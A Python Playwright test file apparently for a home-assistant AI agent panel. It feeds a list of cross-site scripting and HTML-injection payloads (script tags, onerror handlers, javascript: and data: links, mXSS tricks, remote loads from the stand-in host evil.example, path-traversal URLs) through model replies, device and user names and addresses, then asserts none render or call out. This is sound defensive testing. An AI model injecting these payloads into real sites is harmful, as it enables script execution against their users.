"""Text of the home, the model, a server or a person is never markup, nor a request."""

from pathlib import Path
from typing import Any
from urllib.parse import quote

from playwright.async_api import expect

from tests.scripted_server import Call, Reply

from .acts import does, service
from .stage import Stage, Visit
from .talking import a_device, speak
from .views import Talk, talk

WALK = (Path(__file__).parent / "page_walk.js").read_text(encoding="utf-8")
EVIL = "evil.example"
DOOR = "cover.garage_door"
PAYLOADS = (
    "<script>window.pwned=1</script>",
    f"<script src=//{EVIL}/a.js></script>",
    '<img src=x onerror="window.pwned=1">',
    f"<img src=//{EVIL}/a.png>",
    "<svg onload=window.pwned=1><animate onbegin=window.pwned=1>",
    f"<style>*{{background:url(//{EVIL}/b)}}</style>",
    f'<link rel="stylesheet" href="//{EVIL}/c.css">',
    f'<iframe src="//{EVIL}"></iframe><object data="//{EVIL}"></object>',
    '" onmouseover="window.pwned=1" autofocus onfocus="window.pwned=1',
    "</textarea></pre></div><b id=pwned>",
    "&lt;img src=x onerror=window.pwned=1&gt; &#60;script&#62;",
    "${window.pwned=1} {{ 7 * 7 }} {% raw %}",
    "[click](javascript:window.pwned=1) [j](JaVaScRiPt:window.pwned=1)",
    "[d](data:text/html,<script>window.pwned=1</script>) [v](vbscript:x)",
    f"[away](//{EVIL}/d) [away](/\\{EVIL}/e) ![shown](//{EVIL}/f.png)",
    f"![shown](https://{EVIL}/g.png) <https://{EVIL}/h>",
    f'<a href="//{EVIL}/i" ping="//{EVIL}/j">here</a>',
    f"<meta http-equiv=refresh content='0;url=//{EVIL}'><base href=//{EVIL}>",
    f"<video poster=//{EVIL}/k autoplay><source onerror=window.pwned=1></video>",
    "<math><mtext></mtext><mglyph><style><!--</style><img onerror=window.pwned=1>",
)
ALL = "\n\n".join(PAYLOADS)
NAME = f"Gate {PAYLOADS[2]}{PAYLOADS[3]}{PAYLOADS[8]}"
# What no text may bring into the page: the panel itself uses none of these.
TAGS = {
    *("script", "img", "iframe", "object", "embed", "link", "style", "meta", "base"),
    *("video", "audio", "source", "math", "mglyph", "animate", "b", "template"),
}


async def _check(visit: Visit, path: str) -> None:
    """Look at what stands in the panel, and at what it did."""
    await visit.page.wait_for_load_state("networkidle")
    for summary in await visit.panel.locator("summary").all():
        if await summary.is_visible():
            await summary.click()
    found: dict[str, Any] = await visit.panel.evaluate(WALK)
    assert TAGS.isdisjoint(found["tags"]), path
    assert found["handlers"] == [], path
    bad = [
        link
        for link in found["links"]
        if not link.startswith(("https://", "http://"))
        and (not link.startswith("/") or link.startswith(("//", "/\\")))
    ]
    assert bad == [], path
    assert await visit.page.evaluate("window.pwned") is None, path


async def _rename(stage: Stage, entity_id: str, name: str | None) -> None:
    await stage.call(
        "administrator",
        "config/entity_registry/update",
        entity_id=entity_id,
        name=name,
    )


async def _hostile_turns(stage: Stage) -> Talk:
    """Let a model say and do everything that could be taken for more than text."""
    question = does(service("cover.open_cover", DOOR), then=ALL)
    await talk(stage, "administrator", "open the garage", *question)
    automation = {
        "action": "create",
        "alias": f"Evening {PAYLOADS[0]}",
        "config": {
            "description": ALL,
            "triggers": [{"trigger": "time", "at": "18:00:00"}],
            "actions": [
                {
                    "action": "persistent_notification.create",
                    "data": {"message": ALL, "title": PAYLOADS[3]},
                },
                {"action": "light.turn_on", "target": {"entity_id": "light.bed_light"}},
            ],
        },
    }
    writes = does(Call("automations", automation), then=PAYLOADS[0])
    await talk(stage, "administrator", f"every evening {PAYLOADS[2]}", *writes)
    await talk(
        stage,
        "administrator",
        f"remember {ALL}",
        *does(Call("memory", {"action": "remember", "text": ALL[:400]}), then=ALL),
    )
    refused = (400, {"error": {"message": ALL, "code": PAYLOADS[2]}})
    await talk(stage, "administrator", ALL, *[Reply(refuse=refused)] * 8)
    stage.server.clear()
    looks = Call("get_states", {"entity_id": DOOR, PAYLOADS[8]: PAYLOADS[2]})
    return await talk(
        stage,
        "administrator",
        ALL,
        Reply(calls=[looks], reasoning=ALL),
        Reply(text=f"# {PAYLOADS[3]}\n\n* {PAYLOADS[14]}\n\n```{ALL}```\n\n{ALL}"),
    )


async def test_nothing_is_more_than_text(stage: Stage) -> None:
    """In every view, after all of it was shown and opened."""
    await _rename(stage, DOOR, NAME)
    try:
        made = await _hostile_turns(stage)
        await stage.call(
            "administrator",
            "ha_ai_agent/conversations/update",
            conversation_id=made.conversation_id,
            title=ALL[:200],
        )
        visit = await stage.visit(path=f"/conversation/{made.conversation_id}")
        await expect(visit.panel.locator(".said")).to_contain_text(PAYLOADS[0])
        await expect(visit.panel.locator(".answer")).to_contain_text("window.pwned=1")
        for path in made.paths:
            await visit.go(path)
            await _check(visit, path)
        await visit.go("/approvals")
        shown = visit.panel.locator(".preview").filter(has_text="img src=x")
        await expect(shown.first).to_be_visible()
        outside = [url for url in visit.log.outside if EVIL in url]
        assert outside == []
        assert visit.log.outside == []
        assert visit.log.errors == []
    finally:
        await _rename(stage, DOOR, None)


async def test_names_of_people_and_agents(stage: Stage) -> None:
    """Names that people gave stand in the panel as they are, and are nothing else."""
    [robin] = [
        user
        for user in await stage.call("administrator", "config/auth/list")
        if user["name"] == "Robin"
    ]
    hostile = f"Robin {PAYLOADS[2]}"
    await stage.call(
        "administrator", "config/auth/update", user_id=robin["id"], name=hostile
    )
    try:
        said = await talk(stage, "user", "good evening", Reply(text="Good evening."))
        visit = await stage.visit(path=f"/turn/{said.turn_id}")
        await expect(visit.panel.locator("haia-turn")).to_contain_text(hostile)
        for path in said.paths:
            await visit.go(path)
            await _check(visit, path)
        assert visit.log.outside == []
    finally:
        await stage.call(
            "administrator", "config/auth/update", user_id=robin["id"], name="Robin"
        )


ADDRESSES = (
    *(f"/turn/{quote(payload, safe='')}" for payload in PAYLOADS[:4]),
    *(f"/conversation/{quote(payload, safe='')}" for payload in PAYLOADS[8:10]),
    *("/conversation/..%2f..%2fprofile", "/turn/%E0%A4%A", "/activity/%3Cimg%3E"),
    *("/javascript:window.pwned=1", f"//{EVIL}/a", "/chat?x=<script>#<img src=x>"),
)


async def test_addresses_and_what_is_typed(stage: Stage) -> None:
    """Of a person who was sent a link, or who tries things out."""
    visit = await stage.visit()
    for path in ADDRESSES:
        await visit.go(path)
        await _check(visit, path)
    fields = (
        ("/chat", "Say something"),
        ("/conversations", "Search conversations"),
        ("/told", None),
    )
    for path, name in fields:
        await visit.go(path)
        view = visit.panel.locator("main")
        box = view.get_by_role("textbox", name=name).or_(
            view.get_by_role("searchbox", name=name)
        )
        await box.first.fill(ALL[:300])
        await box.first.press("Enter")
        await _check(visit, path)
    assert visit.log.outside == []
    assert visit.log.errors == []


async def test_names_of_rooms_and_devices(stage: Stage) -> None:
    """Where somebody spoke, what a filter offers, what a plan is about."""
    device = await a_device(stage)
    [room] = [
        area
        for area in await stage.call("administrator", "config/area_registry/list")
        if area["area_id"] == device["area_id"]
    ]

    async def name(device_name: str | None, room_name: str) -> None:
        for kind, key, fields in (
            ("device", device["id"], {"name_by_user": device_name}),
            ("area", room["area_id"], {"name": room_name}),
        ):
            command = f"config/{kind}_registry/update"
            await stage.call("administrator", command, **{f"{kind}_id": key}, **fields)

    await name(NAME, f"Room {PAYLOADS[2]}")
    try:
        stage.server.script(*does(service("cover.open_cover", DOOR), then="Well."))
        await speak(stage, "open the garage", device["id"])
        visit = await stage.visit(path="/approvals")
        await expect(visit.panel.locator("haia-question").last).to_contain_text(NAME)
        for path in ("/approvals", "/activity", "/activity/planned", "/conversations"):
            await visit.go(path)
            await _check(visit, path)
        assert visit.log.outside == []
        assert visit.log.errors == []
    finally:
        await name(device["name_by_user"], room["name"])
